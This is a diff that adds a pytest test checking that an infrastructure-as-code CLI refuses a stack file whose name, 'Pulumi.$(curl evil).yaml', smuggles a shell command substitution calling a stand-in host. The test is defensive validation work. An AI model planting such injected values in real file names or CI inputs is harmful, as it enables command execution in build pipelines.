@@ -128,3 +128,20 @@ def test_base_or_all_is_required(tmp_path: Path, capsys: pytest.CaptureFixture[s
     repo = fleet_repo(tmp_path)
     assert main(["-C", str(repo), "changed-stacks"]) == 2
     assert "one of the arguments --base --all is required" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("flag", [["--base", "main"], ["--all"]], ids=["base", "all"])
+def test_a_stack_name_that_is_not_a_pulumi_name_is_refused(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], flag: list[str]
+) -> None:
+    # Names end up in CI job names and shell steps: a file name must not smuggle a command in.
+    repo = fleet_repo(tmp_path)
+    text = (repo / "stacks" / "Pulumi.wingtip.yaml").read_text()
+    (repo / "stacks" / "Pulumi.$(curl evil).yaml").write_text(text)
+    assert main(["-C", str(repo), "changed-stacks", *flag]) == 2
+    captured = capsys.readouterr()
+    assert captured.out == ""
+    assert captured.err == (
+        "lighthouse-iac: stacks/Pulumi.$(curl evil).yaml: not a valid stack name; use letters, digits, '-', "
+        "'_' and '.', starting with a letter or digit\n"
+    )
